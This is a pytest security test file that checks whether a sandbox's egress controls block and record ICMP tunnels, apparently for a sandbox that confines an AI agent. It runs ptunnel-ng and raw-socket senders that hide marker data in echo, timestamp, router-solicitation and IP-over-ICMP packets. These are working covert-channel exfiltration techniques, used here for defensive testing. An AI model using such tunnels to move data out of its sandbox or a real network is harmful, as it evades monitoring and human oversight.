"""Issue 9 point 8: ICMP tunnels. ptunnel-ng (client in the sandbox, proxy in the internet namespace) and echo or
other ICMP messages carrying data (IPv4 and ICMPv6) must move nothing, and be recorded by the ICMP tunnel
detector as ``tunnel`` (not only ``firewall-drop``). An ordinary ping is the contrast: dropped too (the gateway
forwards no echo in enforce mode) and recorded as ``firewall-drop``."""

from __future__ import annotations

import time

import pytest

from egress.lab.topology import server
from egress.record.schema import AttemptRecord
from tests.security.harness import SecurityLab, report

pytestmark = pytest.mark.security

PROXY = server("blocked")
"""The ptunnel-ng proxy's address (the internet namespace answers on every server address)."""
SSH = server("ssh")
"""What the tunnel asks the proxy to reach: the lab's SSH-like server (it sends a banner first)."""

PTUNNEL = ("stdbuf", "-oL", "ptunnel-ng", "-v", "4")
"""ptunnel-ng at its most verbose, line-buffered (its log is the attacker's own view)."""

CLIENT = r"""
import socket, sys
try:
    with socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5) as sock:
        sock.settimeout(8)
        sock.sendall(b"SSH-2.0-agent TUNNEL-MARKER\r\n")
        data = sock.recv(4096)
    print("banner" if data.startswith(b"SSH-") else f"answer {data[:40]!r}", flush=True)
except OSError as exc:
    print("failed", exc, flush=True)
"""

SENDER = r"""
import os, socket, struct, sys
version, kind, ident, dst = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4]

def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

def linux_ping(n, head=None):
    return (head or struct.pack("<qq", 1764400000 + n, 1000 * n)) + bytes(range(16, 56))

def inner_packet():
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 48, 7, 0, 64, 17, 0, bytes([10, 0, 0, 1]), bytes([198, 51, 100, 9]))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return head + struct.pack("!HHHH", 4000, 53, 28, 0) + b"TUNNEL-MARKER-inner!"

messages = {  # kind -> [(ICMP type, data after the 8-byte header)]
    "echo-random-large": [(8, b"TUNNEL-MARKER" + os.urandom(600)) for _ in range(3)],
    "echo-varying": [(8, b"TUNNEL-MARKER" + os.urandom(40 + 13 * n)) for n in range(5)],
    "echo-in-send-time": [(8, linux_ping(n, b"TUNNEL-MARKER" + os.urandom(3))) for n in range(5)],
    "echo-ip-over-icmp": [(8, inner_packet()) for _ in range(2)],
    "echo-hans": [(8, b"hanc\x02" + b"TUNNEL-MARKER") for _ in range(2)],
    "timestamp-with-data": [(13, struct.pack("!3I", 1, 2, 3) + b"TUNNEL-MARKER data") for _ in range(2)],
    "info-request-with-data": [(15, b"TUNNEL-MARKER data") for _ in range(2)],
    "router-solicitation-with-data": [(10, b"TUNNEL-MARKER data") for _ in range(2)],
    "linux-ping": [(8, linux_ping(n)) for n in range(3)],
}
if version == 6:
    messages = {k: [(128 if t == 8 else 133 if t == 10 else t, d) for t, d in v] for k, v in messages.items()}
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)  # the kernel sums ICMPv6
else:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for seq, (icmp_type, data) in enumerate(messages[kind]):
    head = struct.pack("!BBHHH", icmp_type, 0, 0, ident, seq)
    if version == 4:
        head = head[:2] + struct.pack("!H", checksum(head + data)) + head[4:]
    sock.sendto(head + data, (dst, 0))
print("sent", len(messages[kind]), flush=True)
"""


def _icmp_records(records: list[AttemptRecord], dst: str) -> list[AttemptRecord]:
    return [r for r in records if r.dst == dst and str(r.transport) == "icmp"]


@pytest.mark.parametrize("magic", [None, "0x12345678"], ids=["default-magic", "custom-magic"])
def test_ptunnel_ng_moves_nothing_and_is_recorded_as_a_tunnel(security_lab: SecurityLab, magic: str | None) -> None:
    lab = security_lab
    port = 2222 if magic is None else 2223
    extra = ["-m", magic] if magic else []
    proxy = lab.attacker(f"ptunnel-proxy-{port}", [*PTUNNEL, f"-r{SSH.v4}", "-R80", *extra])
    proxy.wait_for("listening", timeout=20)
    client = lab.attacker(
        f"ptunnel-client-{port}",
        [*PTUNNEL, "-p", PROXY.v4, "-l", str(port), f"-r{SSH.v4}", "-R80", *extra],
        where="sandbox",
    )
    client.wait_for(f"{port}|[Ll]isten", timeout=20)
    since = time.time()
    with lab.capture(f"ptunnel-{port}") as capture:
        answer = lab.sandbox_python(CLIENT, str(port), timeout=30)
    crossed = capture.result
    assert crossed is not None
    leaked = crossed.bytes_to(PROXY.v4)
    goal = "banner" in answer.stdout or "Incoming tunnel request" in proxy.log()
    found = lab.records_until(since, lambda rs: any(r.protocol == "icmp-ptunnel" for r in _icmp_records(rs, PROXY.v4)))
    record = next(r for r in _icmp_records(found, PROXY.v4) if r.protocol == "icmp-ptunnel")
    report(f"icmp/ptunnel-ng-{'default' if magic is None else 'custom'}-magic", "unrecorded", leaked, goal,
           str(record.reason), record.protocol)  # fmt: skip
    client.stop()
    proxy.stop()
    assert leaked == 0 and crossed.packets_to(PROXY.v4) == 0, crossed.table()
    assert not goal, (answer.stdout, proxy.log()[-1000:])
    assert (str(record.reason), record.detector, record.sandbox) == ("tunnel", "icmp_tunnel", "agent")


# (kind, IP version, the record's protocol, its reason)
VARIANTS = [
    ("echo-random-large", 4, "icmp-tunnel", "tunnel"),
    ("echo-varying", 4, "icmp-tunnel", "tunnel"),
    ("echo-in-send-time", 4, "icmp-tunnel", "tunnel"),
    ("echo-ip-over-icmp", 4, "ip-over-icmp", "tunnel"),
    ("echo-hans", 4, "icmp-hans", "tunnel"),
    ("timestamp-with-data", 4, "icmp-covert", "tunnel"),
    ("info-request-with-data", 4, "icmp-covert", "tunnel"),
    ("router-solicitation-with-data", 4, "icmp-covert", "tunnel"),
    ("echo-random-large", 6, "icmp-tunnel", "tunnel"),
    ("echo-in-send-time", 6, "icmp-tunnel", "tunnel"),
    ("router-solicitation-with-data", 6, "icmp-covert", "tunnel"),
    ("linux-ping", 4, "icmp", "firewall-drop"),
    ("linux-ping", 6, "icmp", "firewall-drop"),
]


@pytest.mark.parametrize(
    ("kind", "version", "protocol", "reason"), [pytest.param(*v, id=f"{v[0]}-v{v[1]}") for v in VARIANTS]
)
def test_icmp_carrying_data_reaches_nothing_and_is_recorded(
    security_lab: SecurityLab, kind: str, version: int, protocol: str, reason: str
) -> None:
    lab = security_lab
    dst = PROXY.v4 if version == 4 else PROXY.v6
    ident = 1000 + VARIANTS.index((kind, version, protocol, reason))
    since = time.time()
    with lab.capture(f"icmp-{kind}-{version}") as capture:
        sent = lab.sandbox_python(SENDER, str(version), kind, str(ident), dst)
    crossed = capture.result
    assert crossed is not None
    assert "sent" in sent.stdout, sent.stderr
    leaked = crossed.bytes_to(dst)

    def mine(records: list[AttemptRecord]) -> list[AttemptRecord]:
        return [r for r in _icmp_records(records, dst) if r.dport == ident]

    found = mine(lab.records_until(since, lambda rs: any(r.protocol == protocol for r in mine(rs))))
    record = next(r for r in found if r.protocol == protocol)
    report(f"icmp/{kind}-v{version}", "unrecorded" if reason == "tunnel" else "contrast", leaked, False,
           str(record.reason), record.protocol)  # fmt: skip
    assert leaked == 0 and crossed.packets_to(dst) == 0 and not crossed.contains(b"TUNNEL-MARKER"), crossed.table()
    assert str(record.reason) == reason
    if reason == "firewall-drop":
        assert not any(str(r.reason) == "tunnel" for r in found), [(r.protocol, r.evidence) for r in found]
